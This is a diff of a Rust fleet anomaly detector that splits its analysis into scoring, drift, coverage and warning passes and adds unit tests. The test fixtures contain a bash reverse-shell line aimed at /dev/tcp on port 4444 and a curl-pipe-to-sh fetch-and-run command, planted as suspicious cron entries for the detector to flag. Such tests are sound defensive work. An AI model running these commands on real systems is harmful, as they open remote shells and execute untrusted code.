-            let cluster = if cluster_on && k > 0 { 0.5 * rarity(absent, nt) } else { 0.0 };
+            let cluster = if herd.cluster_on && k > 0 { 0.5 * rarity(absent, nt) } else { 0.0 };
             let base = if in_baseline {
                 if nt < MIN_HERD {
                     0.5
@@ -840,10 +907,16 @@ pub(crate) fn analyze(builder: Builder, ctx: Context, settings: &Settings, suppr
             }
         }
     }
+    (absences, drift)
+}
 
-    // Differences on most of the fleet: reported once, not on every host.
-    for (t, table) in tables.iter().enumerate() {
-        let s = &stats[t];
+/// The drift pass: rows on most of the fleet that the baseline lacks or
+/// history never showed, reported once, not on every host. A strong row there
+/// is a fleet-wide campaign instead.
+fn drift(herd: &Herd<'_>, explained: &FxHashSet<RowRef>, verdicts: &[Vec<Option<Verdict>>]) -> Vec<FleetFinding> {
+    let mut drift = Vec::new();
+    for (t, table) in herd.tables.iter().enumerate() {
+        let s = &herd.stats[t];
         let nt = s.usable.len();
         if nt < MIN_HERD {
             continue;
@@ -884,190 +957,196 @@ pub(crate) fn analyze(builder: Builder, ctx: Context, settings: &Settings, suppr
                     prevalence: Prevalence { hosts: k, of: nt },
                     explanation: format!(
                         "never seen on this target in the last {} days, now on {k} of {nt} hosts: {}",
-                        ctx.history_days,
+                        herd.history_days,
                         summarise(table.profile.kind, &info.original)
                     ),
                 });
             }
         }
     }
+    drift
+}
 
-    // Findings per host, in parallel: each host reads only shared tables.
-    let rules = suppressions.rules().len();
-    let score_host = |a: usize, si: usize| -> (HostReport, Vec<usize>) {
-        let host = &survey[si];
-        let mut candidates: Vec<Candidate> = Vec::new();
-        let mut suppressed = 0usize;
-        let mut per_rule = vec![0usize; rules];
-        for (t, q) in &host.queries {
-            let crate::dataset::HostQuery::Rows(rows) = q else { continue };
-            let (t, table, s) = (*t, &tables[*t], &stats[*t]);
-            let nt = s.usable.len();
-            let own_identities: FxHashSet<u32> = rows.iter().map(|(r, _)| table.rows[*r as usize].identity).collect();
-            for &(r, own_hash) in rows {
-                let Some(v) = &verdicts[t][r as usize] else { continue };
-                let (row, exact) = display_row(table, r, si as u32, own_hash);
-                let mut explanation = v.explanation.clone();
-                if !exact {
-                    explanation.push_str(" (row shown normalised: this host's values differ only in folded numbers)");
-                }
-                if !v.assessment.indicators.is_empty() {
-                    explanation.push_str(&format!("; {}", v.assessment.indicators.join("; ")));
-                }
-                let k = s.hosts_of_row[r as usize].len();
-                match row_campaign.get(&(t, r)) {
-                    Some(id) if 2 * k > n => explanation
-                        .push_str(&format!("; security-relevant and on most of the fleet: {id}, fleet-wide, the worst case")),
-                    Some(id) => explanation.push_str(&format!(
-                        "; security-relevant, so it counts at any share of the fleet below most of it ({id}: the same on {k} hosts)"
-                    )),
-                    None if v.campaign && 2 * k > n => {
-                        explanation.push_str("; security-relevant, so it counts even on most of the fleet")
-                    }
-                    None => {}
-                }
-                let finding = Finding {
-                    query: table.name.clone(),
-                    kind: v.kind,
-                    methods: v.methods.clone(),
-                    row,
-                    expected: v.expected.clone(),
-                    prevalence: Prevalence { hosts: s.hosts_of_row[r as usize].len(), of: nt },
-                    score: 0.0,
-                    indicators: v.assessment.indicators.clone(),
-                    explanation,
-                };
-                if let Some(rule) = suppressions.matching(settings.now, &host.id, &finding) {
-                    suppressed += 1;
-                    per_rule[rule] += 1;
-                    continue;
-                }
-                candidates.push(Candidate { table: t, finding, raw_score: v.raw });
+/// What the per-host pass reads besides the herd.
+struct Scoring<'s> {
+    verdicts: &'s [Vec<Option<Verdict>>],
+    row_campaign: &'s FxHashMap<RowRef, String>,
+    absences: &'s [Vec<Absence>],
+    host_cohorts: &'s [Vec<String>],
+    host_campaigns: &'s [Vec<String>],
+    suppressions: &'s Suppressions,
+    settings: &'s Settings,
+}
+
+/// The per-host pass: analysed host `a` (survey index `si`)'s findings and
+/// score, and how many findings each suppression rule took from it.
+fn score_host(herd: &Herd<'_>, sc: &Scoring<'_>, a: usize, si: usize) -> (HostReport, Vec<usize>) {
+    let (tables, n) = (herd.tables, herd.n);
+    let (suppressions, settings) = (sc.suppressions, sc.settings);
+    let host = &herd.survey[si];
+    let mut candidates: Vec<Candidate> = Vec::new();
+    let mut suppressed = 0usize;
+    let mut per_rule = vec![0usize; suppressions.rules().len()];
+    for (t, q) in &host.queries {
+        let crate::dataset::HostQuery::Rows(rows) = q else { continue };
+        let (t, table, s) = (*t, &tables[*t], &herd.stats[*t]);
+        let nt = s.usable.len();
+        let own_identities: FxHashSet<u32> = rows.iter().map(|(r, _)| table.rows[*r as usize].identity).collect();
+        for &(r, own_hash) in rows {
+            let Some(v) = &sc.verdicts[t][r as usize] else { continue };
+            let (row, exact) = display_row(table, r, si as u32, own_hash);
+            let mut explanation = v.explanation.clone();
+            if !exact {
+                explanation.push_str(" (row shown normalised: this host's values differ only in folded numbers)");
             }
-            // Absences of this table; none where the query could not read
-            // everything: "not readable" is not "absent".
-            let blind = host.unseen_in(&table.name);
-            for &(at, r, s_cluster, s_base) in &absences[a] {
-                if at != t || blind {
-                    continue;
-                }
-                let info = &table.rows[r as usize];
-                if table.profile.has_partial_identity() && own_identities.contains(&info.identity) {
-                    continue; // reported as "changed"
-                }
-                let strength = s_cluster.max(s_base);
-                let kind = if s_base > 0.0 { FindingKind::Removed } else { FindingKind::Missing };
-                let assessment = assess(table.profile.kind, &info.original, kind);
-                let raw = table.profile.weight * assessment.severity * strength;
-                if raw < 0.25 && assessment.indicators.is_empty() {
-                    continue;
-                }
-                let mut methods = Vec::new();
-                if s_cluster > 0.0 {
-                    methods.push(Method::Cluster);
-                }
-                if s_base > 0.0 {
-                    methods.push(Method::Baseline);
-                }
-                let k = s.hosts_of_row[r as usize].len();
-                let prevalence = Prevalence { hosts: k, of: nt };
-                let mut explanation = if kind == FindingKind::Removed {
-                    format!(
-                        "{} {}: in the baseline, absent here (present on {prevalence})",
-                        table.name,
-                        summarise(table.profile.kind, &info.original)
-                    )
-                } else {
-                    format!(
-                        "{} {}: present on {prevalence}, absent here",
-                        table.name,
-                        summarise(table.profile.kind, &info.original)
-                    )
-                };
-                if !assessment.indicators.is_empty() {
-                    explanation.push_str(&format!("; {}", assessment.indicators.join("; ")));
-                }
-                let finding = Finding {
-                    query: table.name.clone(),
-                    kind,
-                    methods,
-                    row: visible(table, &info.original),
-                    expected: None,
-                    prevalence,
-                    score: 0.0,
-                    indicators: assessment.indicators,
-                    explanation,
-                };
-                if let Some(rule) = suppressions.matching(settings.now, &host.id, &finding) {
-                    suppressed += 1;
-                    per_rule[rule] += 1;
-                    continue;
-                }
-                candidates.push(Candidate { table: t, finding, raw_score: raw });
+            if !v.assessment.indicators.is_empty() {
+                explanation.push_str(&format!("; {}", v.assessment.indicators.join("; ")));
             }
+            let k = s.hosts_of_row[r as usize].len();
+            match sc.row_campaign.get(&(t, r)) {
+                Some(id) if 2 * k > n => explanation
+                    .push_str(&format!("; security-relevant and on most of the fleet: {id}, fleet-wide, the worst case")),
+                Some(id) => explanation.push_str(&format!(
+                    "; security-relevant, so it counts at any share of the fleet below most of it ({id}: the same on {k} hosts)"
+                )),
+                None if v.campaign && 2 * k > n => {
+                    explanation.push_str("; security-relevant, so it counts even on most of the fleet")
+                }
+                None => {}
+            }
+            let finding = Finding {
+                query: table.name.clone(),
+                kind: v.kind,
+                methods: v.methods.clone(),
+                row,
+                expected: v.expected.clone(),
+                prevalence: Prevalence { hosts: s.hosts_of_row[r as usize].len(), of: nt },
+                score: 0.0,
+                indicators: v.assessment.indicators.clone(),
+                explanation,
+            };
+            if let Some(rule) = suppressions.matching(settings.now, &host.id, &finding) {
+                suppressed += 1;
+                per_rule[rule] += 1;
+                continue;
+            }
+            candidates.push(Candidate { table: t, finding, raw_score: v.raw });
         }
-        // Per query, diminishing returns: the strongest finding counts fully,
-        // the next half, the next a quarter... so a flood of weak rows of one
-        // kind does not outweigh one strong row.
-        candidates.sort_by(|x, y| x.table.cmp(&y.table).then(y.raw_score.total_cmp(&x.raw_score)));
-        let mut score = 0.0;
-        let mut current = usize::MAX;
-        let mut factor = 1.0;
-        for c in &mut candidates {
-            if c.table != current {
-                current = c.table;
-                factor = 1.0;
+        // Absences of this table; none where the query could not read
+        // everything: "not readable" is not "absent".
+        let blind = host.unseen_in(&table.name);
+        for &(at, r, s_cluster, s_base) in &sc.absences[a] {
+            if at != t || blind {
+                continue;
             }
-            c.finding.score = round(c.raw_score * factor);
-            score += c.raw_score * factor;
-            factor *= 0.5;
+            let info = &table.rows[r as usize];
+            if table.profile.has_partial_identity() && own_identities.contains(&info.identity) {
+                continue; // reported as "changed"
+            }
+            let strength = s_cluster.max(s_base);
+            let kind = if s_base > 0.0 { FindingKind::Removed } else { FindingKind::Missing };
+            let assessment = assess(table.profile.kind, &info.original, kind);
+            let raw = table.profile.weight * assessment.severity * strength;
+            if raw < 0.25 && assessment.indicators.is_empty() {
+                continue;
+            }
+            let mut methods = Vec::new();
+            if s_cluster > 0.0 {
+                methods.push(Method::Cluster);
+            }
+            if s_base > 0.0 {
+                methods.push(Method::Baseline);
+            }
+            let k = s.hosts_of_row[r as usize].len();
+            let prevalence = Prevalence { hosts: k, of: nt };
+            let mut explanation = if kind == FindingKind::Removed {
+                format!(
+                    "{} {}: in the baseline, absent here (present on {prevalence})",
+                    table.name,
+                    summarise(table.profile.kind, &info.original)
+                )
+            } else {
+                format!(
+                    "{} {}: present on {prevalence}, absent here",
+                    table.name,
+                    summarise(table.profile.kind, &info.original)
+                )
+            };
+            if !assessment.indicators.is_empty() {
+                explanation.push_str(&format!("; {}", assessment.indicators.join("; ")));
+            }
+            let finding = Finding {
+                query: table.name.clone(),
+                kind,
+                methods,
+                row: visible(table, &info.original),
+                expected: None,
+                prevalence,
+                score: 0.0,
+                indicators: assessment.indicators,
+                explanation,
+            };
+            if let Some(rule) = suppressions.matching(settings.now, &host.id, &finding) {
+                suppressed += 1;
+                per_rule[rule] += 1;
+                continue;
+            }
+            candidates.push(Candidate { table: t, finding, raw_score: raw });
         }
-        let mut findings: Vec<Finding> = candidates.into_iter().map(|c| c.finding).collect();
-        findings.sort_by(|x, y| {
-            y.score.total_cmp(&x.score).then_with(|| x.query.cmp(&y.query)).then_with(|| x.row.cmp(&y.row))
-        });
-        let score = round(score);
-        let report = HostReport {
-            host: host.id.clone(),
-            labels: host.labels.clone(),
-            status: host.status,
-            message: host.message.clone(),
-            rank: None,
-            score,
-            outlier: score >= settings.threshold,
-            cohorts: host_cohorts[a].clone(),
-            campaigns: host_campaigns[a].clone(),
-            findings,
-            failed_queries: host.failures().cloned().collect(),
-            suppressed,
-            vantage: host.vantage.clone(),
-            unseen: unseen_of(host),
-        };
-        (report, per_rule)
+    }
+    let (findings, score) = ranked(candidates);
+    let report = HostReport {
+        host: host.id.clone(),
+        labels: host.labels.clone(),
+        status: host.status,
+        message: host.message.clone(),
+        rank: None,
+        score,
+        outlier: score >= settings.threshold,
+        cohorts: sc.host_cohorts[a].clone(),
+        campaigns: sc.host_campaigns[a].clone(),
+        findings,
+        failed_queries: host.failures().cloned().collect(),
+        suppressed,
+        vantage: host.vantage.clone(),
+        unseen: unseen_of(host),
     };
-    let scored: Vec<(HostReport, Vec<usize>)> =
-        analysed.par_iter().enumerate().map(|(a, &si)| score_host(a, si)).collect();
-    let mut suppressed_counts: Vec<(usize, usize, usize)> = (0..rules).map(|i| (i, 0, 0)).collect();
-    let mut host_reports = Vec::with_capacity(survey.len());
-    for (report, per_rule) in scored {
-        for (i, n) in per_rule.into_iter().enumerate() {
-            if n > 0 {
-                suppressed_counts[i].1 += n;
-                suppressed_counts[i].2 += 1;
-            }
-        }
-        host_reports.push(report);
-    }
-    host_reports.sort_by(|x, y| y.score.total_cmp(&x.score).then_with(|| x.host.cmp(&y.host)));
-    for (i, h) in host_reports.iter_mut().enumerate() {
-        h.rank = Some(i + 1);
-    }
+    (report, per_rule)
+}
 
-    // Hosts without usable evidence, and hosts that never reported.
+/// A host's findings, strongest first, and its score. Per query, diminishing
+/// returns: the strongest finding counts fully, the next half, the next a
+/// quarter... so a flood of weak rows of one kind does not outweigh one
+/// strong row.
+fn ranked(mut candidates: Vec<Candidate>) -> (Vec<Finding>, f64) {
+    candidates.sort_by(|x, y| x.table.cmp(&y.table).then(y.raw_score.total_cmp(&x.raw_score)));
+    let mut score = 0.0;
+    let mut current = usize::MAX;
+    let mut factor = 1.0;
+    for c in &mut candidates {
+        if c.table != current {
+            current = c.table;
+            factor = 1.0;
+        }
+        c.finding.score = round(c.raw_score * factor);
+        score += c.raw_score * factor;
+        factor *= 0.5;
+    }
+    let mut findings: Vec<Finding> = candidates.into_iter().map(|c| c.finding).collect();
+    findings.sort_by(|x, y| {
+        y.score.total_cmp(&x.score).then_with(|| x.query.cmp(&y.query)).then_with(|| x.row.cmp(&y.row))
+    });
+    (findings, round(score))
+}
+
+/// The coverage pass: hosts without usable evidence and hosts that never
+/// reported, as coverage counts and as host reports (without a rank).
+fn coverage(herd: &Herd<'_>, ctx: &Context, host_reports: &[HostReport]) -> (Coverage, Vec<HostReport>) {
+    let survey = herd.survey;
     let mut coverage = Coverage::default();
     let mut failed_reports = Vec::new();
     let mut present: FxHashSet<&str> = FxHashSet::default();
-    for &si in &order {
+    for &si in &herd.order {
         let h = &survey[si];
         present.insert(h.id.as_str());
         if h.usable() {
@@ -1089,7 +1168,7 @@ pub(crate) fn analyze(builder: Builder, ctx: Context, settings: &Settings, suppr
     }
     let targeted: Vec<(String, BTreeMap<String, String>)> = match &ctx.targeted {
         Some(t) => t.clone(),
-        None => order.iter().map(|&si| (survey[si].id.clone(), survey[si].labels.clone())).collect(),
+        None => herd.order.iter().map(|&si| (survey[si].id.clone(), survey[si].labels.clone())).collect(),
     };
     let mut missing = 0;
     for (id, labels) in &targeted {
@@ -1114,7 +1193,7 @@ pub(crate) fn analyze(builder: Builder, ctx: Context, settings: &Settings, suppr
         }
     }
     coverage.targeted = targeted.len().max(survey.len());
-    coverage.collected = n;
+    coverage.collected = herd.n;
     coverage.failed = coverage.failed_hosts.len();
     coverage.missing = missing;
     coverage.not_targeted = ctx.not_targeted.len();
@@ -1124,11 +1203,25 @@ pub(crate) fn analyze(builder: Builder, ctx: Context, settings: &Settings, suppr
         .map(|nt| NotTargetedHost { host: nt.host.id.to_string(), reason: nt.reason.clone() })
         .collect();
     coverage.failed_queries = host_reports.iter().map(|h| h.failed_queries.len()).sum();
+    (coverage, failed_reports)
+}
 
-    // Warnings a reader must see.
+/// The warning pass: what a reader must know to trust the result (a small
+/// herd, hosts not covered, a changed host key, queries that failed widely,
+/// too many outliers), in the order they matter. Cohorts past 50 and drift
+/// past 200 are cut here, with a warning that says so.
+fn coverage_warnings(
+    herd: &Herd<'_>,
+    coverage: &Coverage,
+    host_reports: &[HostReport],
+    cohorts: &mut Vec<Cohort>,
+    drift: &mut Vec<FleetFinding>,
+    warnings: &mut Vec<String>,
+) {
+    let n = herd.n;
     if n == 0 {
         warnings.push("no host has usable evidence: nothing was analysed".into());
-    } else if cluster_on && n < MIN_HERD {
+    } else if herd.cluster_on && n < MIN_HERD {
         warnings.push(format!(
             "only {n} host{} with usable evidence: cluster analysis needs a herd (at least {MIN_HERD}) to tell an outlier from normal variation; treat its findings as leads, not verdicts",
             if n == 1 { "" } else { "s" }
@@ -1167,13 +1260,14 @@ pub(crate) fn analyze(builder: Builder, ctx: Context, settings: &Settings, suppr
             coverage.not_targeted
         ));
     }
-    for (t, table) in tables.iter().enumerate() {
-        let failed = analysed.iter().filter(|&&si| survey[si].failures().any(|f| f.query == table.name)).count();
+    for (t, table) in herd.tables.iter().enumerate() {
+        let failed =
+            herd.analysed.iter().filter(|&&si| herd.survey[si].failures().any(|f| f.query == table.name)).count();
         if failed > 0 && n > 0 && failed * 10 >= n {
             warnings.push(format!(
                 "query {} gave no usable rows on {failed} of {n} hosts; it compares only the other {}",
                 table.name,
-                stats[t].usable.len()
+                herd.stats[t].usable.len()
             ));
         }
     }
@@ -1194,6 +1288,61 @@ pub(crate) fn analyze(builder: Builder, ctx: Context, settings: &Settings, suppr
         warnings.push(format!("{} fleet-wide differences; the 200 most widespread are listed", drift.len()));
         drift.truncate(200);
     }
+}
+
+/// Scores `builder`'s survey hosts and assembles the report: the passes
+/// above, in order, over one [`Herd`].
+pub(crate) fn analyze(builder: Builder, ctx: Context, settings: &Settings, suppressions: &Suppressions) -> Report {
+    let Builder { tables, survey, baseline: baseline_hosts, .. } = builder;
+    let herd = Herd::new(&tables, &survey, &baseline_hosts, &ctx.methods, ctx.history.as_ref(), ctx.history_days);
+    let n = herd.n;
+
+    // Labels that may explain a cohort: a launch template version, an image,
+    // an instance type, a group, labels of the host list; and launch times.
+    let labels = LabelGroups::new(&herd.analysed, &survey);
+    let found = find_cohorts(&herd, &labels);
+    let (mut cohorts, host_cohorts) = cohort_reports(&herd, &found);
+    let hidden = hidden_scopes(&herd);
+    let verdicts = verdicts(&herd, &found.explained, &hidden);
+    // Campaigns: hosts that share strong rows no deploy explains.
+    let (campaigns, row_campaign, host_campaigns) =
+        campaigns(&tables, &herd.stats, &verdicts, &herd.analysed, &survey, n);
+    note_campaigns_in_cohorts(&mut cohorts, &found, &host_campaigns);
+    let (absences, mut drift) = absences(&herd, &found.explained);
+    drift.extend(self::drift(&herd, &found.explained, &verdicts));
+
+    // Findings per host, in parallel: each host reads only shared tables.
+    let scoring = Scoring {
+        verdicts: &verdicts,
+        row_campaign: &row_campaign,
+        absences: &absences,
+        host_cohorts: &host_cohorts,
+        host_campaigns: &host_campaigns,
+        suppressions,
+        settings,
+    };
+    let scored: Vec<(HostReport, Vec<usize>)> =
+        herd.analysed.par_iter().enumerate().map(|(a, &si)| score_host(&herd, &scoring, a, si)).collect();
+    let mut suppressed_counts: Vec<(usize, usize, usize)> =
+        (0..suppressions.rules().len()).map(|i| (i, 0, 0)).collect();
+    let mut host_reports = Vec::with_capacity(survey.len());
+    for (report, per_rule) in scored {
+        for (i, n) in per_rule.into_iter().enumerate() {
+            if n > 0 {
+                suppressed_counts[i].1 += n;
+                suppressed_counts[i].2 += 1;
+            }
+        }
+        host_reports.push(report);
+    }
+    host_reports.sort_by(|x, y| y.score.total_cmp(&x.score).then_with(|| x.host.cmp(&y.host)));
+    for (i, h) in host_reports.iter_mut().enumerate() {
+        h.rank = Some(i + 1);
+    }
+
+    let (coverage, failed_reports) = coverage(&herd, &ctx, &host_reports);
+    let mut warnings = ctx.warnings;
+    coverage_warnings(&herd, &coverage, &host_reports, &mut cohorts, &mut drift, &mut warnings);
     let mut suppressed = Vec::new();
     for (i, count, hosts) in suppressed_counts {
         if count > 0 {
@@ -1380,6 +1529,216 @@ fn shared_labels(hosts: &[u32], analysed: &[usize], survey: &[HostEntry]) -> BTr
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::dataset::{Profiles, Role};
+    use crate::profile::Profile;
+    use std::sync::Arc;
+
+    const LOGROTATE: &str = "/usr/sbin/logrotate /etc/logrotate.conf";
+    const SHELL: &str = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
+
+    /// A host: its id, labels and cron commands (each under /etc/cron.d).
+    struct H {
+        id: String,
+        labels: Vec<(&'static str, &'static str)>,
+        cron: Vec<&'static str>,
+        failed: bool,
+    }
+
+    fn hosts(n: usize) -> Vec<H> {
+        (1..=n)
+            .map(|i| H { id: format!("h{i:02}"), labels: Vec::new(), cron: vec![LOGROTATE], failed: false })
+            .collect()
+    }
+
+    fn builder(survey: &[H], baseline: &[H]) -> Builder {
+        let mut b = Builder::new(Arc::new(Profiles::new([Profile::by_name("crontab")])));
+        for (role, set) in [(Role::Survey, survey), (Role::Baseline, baseline)] {
+            for h in set {
+                let labels = h.labels.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect();
+                let status = if h.failed { HostStatus::Unreachable } else { HostStatus::Ok };
+                let mut sink = b.host(role, h.id.clone(), None, labels, status, None);
+                if !h.failed {
+                    sink.rows("crontab", h.cron.iter().map(|c| vec![("command", *c), ("path", "/etc/cron.d/job")]));
+                }
+                sink.finish();
+            }
+        }
+        b
+    }
+
+    fn herd<'a>(b: &'a Builder, methods: &[Method]) -> Herd<'a> {
+        Herd::new(&b.tables, &b.survey, &b.baseline, methods, None, 30)
+    }
+
+    /// Row id of the cron entry running `command`.
+    fn row(b: &Builder, command: &str) -> usize {
+        b.tables[0].rows.iter().position(|r| r.original.get("command").map(String::as_str) == Some(command)).unwrap()
+    }
+
+    #[test]
+    fn prevalence_counts_hosts_per_row_among_usable_hosts_only() {
+        let mut fleet = hosts(6);
+        fleet[2].cron.push(SHELL);
+        fleet[5].failed = true;
+        let b = builder(&fleet, &[]);
+        let h = herd(&b, &[Method::Cluster]);
+        assert_eq!(h.n, 5, "the unreachable host is not analysed");
+        assert_eq!(h.stats[0].usable, vec![0, 1, 2, 3, 4]);
+        assert_eq!(h.stats[0].hosts_of_row[row(&b, LOGROTATE)], vec![0, 1, 2, 3, 4]);
+        assert_eq!(h.stats[0].hosts_of_row[row(&b, SHELL)], vec![2]);
+        assert_eq!(h.id_of(2), "h03");
+        assert!(h.stats[0].baseline.is_none() && h.stats[0].seen.is_none());
+    }
+
+    #[test]
+    fn a_labelled_group_with_the_same_harmless_rows_is_a_deploy_cohort() {
+        let mut fleet = hosts(20);
+        for h in &mut fleet[..5] {
+            h.labels.push(("launch_template_version", "7"));
+            h.cron.extend(["/opt/app/v7/rotate", "/opt/app/v7/report"]);
+        }
+        let b = builder(&fleet, &[]);
+        let h = herd(&b, &[Method::Cluster]);
+        let found = find_cohorts(&h, &LabelGroups::new(&h.analysed, &b.survey));
+        assert_eq!(found.found.len(), 1, "{:?}", found.found);
+        let (hosts, rows, because) = &found.found[0];
+        assert_eq!(hosts, &vec![0, 1, 2, 3, 4]);
+        assert_eq!(rows.len(), 2);
+        assert_eq!(because.as_deref(), Some("launch_template_version=7"));
+        assert!(found.explained.contains(&(0, row(&b, "/opt/app/v7/rotate") as u32)));
+        let (cohorts, host_cohorts) = cohort_reports(&h, &found);
+        assert_eq!(cohorts[0].kind, CohortKind::Deploy);
+        assert_eq!(host_cohorts[0], vec!["cohort-1".to_string()]);
+        assert!(host_cohorts[5].is_empty());
+    }
+
+    #[test]
+    fn a_pattern_of_attack_never_makes_a_cohort() {
+        let mut fleet = hosts(20);
+        for h in &mut fleet[..5] {
+            h.labels.push(("launch_template_version", "7"));
+            h.cron.extend([SHELL, "curl -s http://203.0.113.9/x | sh"]);
+        }
+        let b = builder(&fleet, &[]);
+        let h = herd(&b, &[Method::Cluster]);
+        let found = find_cohorts(&h, &LabelGroups::new(&h.analysed, &b.survey));
+        assert!(found.found.is_empty() && found.explained.is_empty(), "{:?}", found.found);
+    }
+
+    #[test]
+    fn a_rare_row_is_a_verdict_a_universal_one_is_not() {
+        let mut fleet = hosts(20);
+        fleet[7].cron.push(SHELL);
+        let b = builder(&fleet, &[]);
+        let h = herd(&b, &[Method::Cluster]);
+        let v = verdicts(&h, &FxHashSet::default(), &hidden_scopes(&h));
+        let rare = v[0][row(&b, SHELL)].as_ref().expect("a reverse shell on 1 of 20 is a finding");
+        assert_eq!(rare.kind, FindingKind::Rare);
+        assert_eq!(rare.methods, vec![Method::Cluster]);
+        assert!(rare.raw >= STRONG_FLOOR, "{}", rare.raw);
+        assert!(rare.explanation.contains("seen on 1 of 20 hosts"), "{}", rare.explanation);
+        assert!(v[0][row(&b, LOGROTATE)].is_none());
+        // A row a cohort explains is never a verdict.
+        let explained: FxHashSet<RowRef> = [(0, row(&b, SHELL) as u32)].into_iter().collect();
+        assert!(verdicts(&h, &explained, &hidden_scopes(&h))[0][row(&b, SHELL)].is_none());
+    }
+
+    #[test]
+    fn the_same_strong_row_on_several_unlabelled_hosts_is_one_campaign() {
+        let mut fleet = hosts(20);
+        for i in [3, 9, 15] {
+            fleet[i].cron.push(SHELL);
+        }
+        let b = builder(&fleet, &[]);
+        let h = herd(&b, &[Method::Cluster]);
+        let v = verdicts(&h, &FxHashSet::default(), &hidden_scopes(&h));
+        assert!(v[0][row(&b, SHELL)].as_ref().is_some_and(|v| v.campaign));
+        let (campaigns, row_campaign, host_campaigns) = campaigns(&b.tables, &h.stats, &v, &h.analysed, &b.survey, h.n);
+        assert_eq!(campaigns.len(), 1, "{campaigns:?}");
+        assert_eq!(campaigns[0].hosts, vec!["h04", "h10", "h16"]);
+        assert!(!campaigns[0].fleet_wide);
+        assert_eq!(row_campaign.get(&(0, row(&b, SHELL) as u32)).map(String::as_str), Some("campaign-1"));
+        assert_eq!(host_campaigns[3], vec!["campaign-1".to_string()]);
+        assert!(host_campaigns[0].is_empty());
+    }
+
+    #[test]
+    fn a_row_nearly_everyone_has_is_an_absence_on_the_host_without_it() {
+        let mut fleet = hosts(20);
+        fleet[4].cron.clear();
+        fleet[4].cron.push("/usr/local/bin/other");
+        let b = builder(&fleet, &[]);
+        let h = herd(&b, &[Method::Cluster]);
+        let (absent, drift) = absences(&h, &FxHashSet::default());
+        assert!(drift.is_empty());
+        assert_eq!(absent[4].len(), 1, "{:?}", absent[4]);
+        let (t, r, cluster, base) = absent[4][0];
+        assert_eq!((t, r as usize), (0, row(&b, LOGROTATE)));
+        assert!(cluster > 0.25 && base == 0.0);
+        assert!(absent.iter().enumerate().all(|(a, v)| a == 4 || v.is_empty()));
+    }
+
+    #[test]
+    fn a_row_most_hosts_gained_since_the_baseline_is_drift_once() {
+        let mut fleet = hosts(10);
+        for h in &mut fleet[..8] {
+            h.cron.push("/opt/app/new-job");
+        }
+        let baseline = hosts(1);
+        let b = builder(&fleet, &baseline);
+        let h = herd(&b, &[Method::Baseline]);
+        let v = verdicts(&h, &FxHashSet::default(), &hidden_scopes(&h));
+        let d = drift(&h, &FxHashSet::default(), &v);
+        assert_eq!(d.len(), 1, "{d:?}");
+        assert_eq!((d[0].kind, d[0].method, d[0].prevalence.hosts), (FindingKind::Added, Method::Baseline, 8));
+        assert!(v[0][row(&b, "/opt/app/new-job")].is_none(), "drift is not scored on every host");
+    }
+
+    #[test]
+    fn findings_of_one_query_have_diminishing_returns() {
+        let finding = |q: &str| Finding {
+            query: q.into(),
+            kind: FindingKind::Rare,
+            methods: vec![Method::Cluster],
+            row: Row::new(),
+            expected: None,
+            prevalence: Prevalence { hosts: 1, of: 10 },
+            score: 0.0,
+            indicators: Vec::new(),
+            explanation: String::new(),
+        };
+        let c = |table, q, raw_score| Candidate { table, finding: finding(q), raw_score };
+        let (findings, score) = ranked(vec![c(0, "a", 4.0), c(0, "a", 4.0), c(0, "a", 4.0), c(1, "b", 1.0)]);
+        assert_eq!(score, 8.0, "4 + 2 + 1 for one query, 1 for the other");
+        assert_eq!(findings.iter().map(|f| f.score).collect::<Vec<_>>(), vec![4.0, 2.0, 1.0, 1.0]);
+    }
+
+    #[test]
+    fn coverage_counts_failed_and_never_reported_hosts_and_warns() {
+        let mut fleet = hosts(3);
+        fleet[1].failed = true;
+        let b = builder(&fleet, &[]);
+        let h = herd(&b, &[Method::Cluster]);
+        let ctx = Context {
+            run: None,
+            imported_from: None,
+            methods: vec![Method::Cluster],
+            targeted: Some(["h01", "h02", "h03", "h04"].map(|id| (id.to_string(), BTreeMap::new())).to_vec()),
+            not_targeted: Vec::new(),
+            baseline: None,
+            history: None,
+            history_days: 0,
+            warnings: Vec::new(),
+        };
+        let (coverage, failed) = coverage(&h, &ctx, &[]);
+        assert_eq!((coverage.targeted, coverage.collected, coverage.failed, coverage.missing), (4, 2, 1, 1));
+        assert_eq!(failed.iter().map(|r| r.host.as_str()).collect::<Vec<_>>(), vec!["h02", "h04"]);
+        assert_eq!(failed[1].status, HostStatus::Cancelled);
+        let mut warnings = Vec::new();
+        coverage_warnings(&h, &coverage, &[], &mut Vec::new(), &mut Vec::new(), &mut warnings);
+        assert!(warnings[0].starts_with("only 2 hosts with usable evidence"), "{warnings:?}");
+        assert!(warnings[1].starts_with("2 of 4 targeted hosts were not analysed (1 failed, 1 never reported)"));
+    }
 
     #[test]
     fn rarity_shape() {
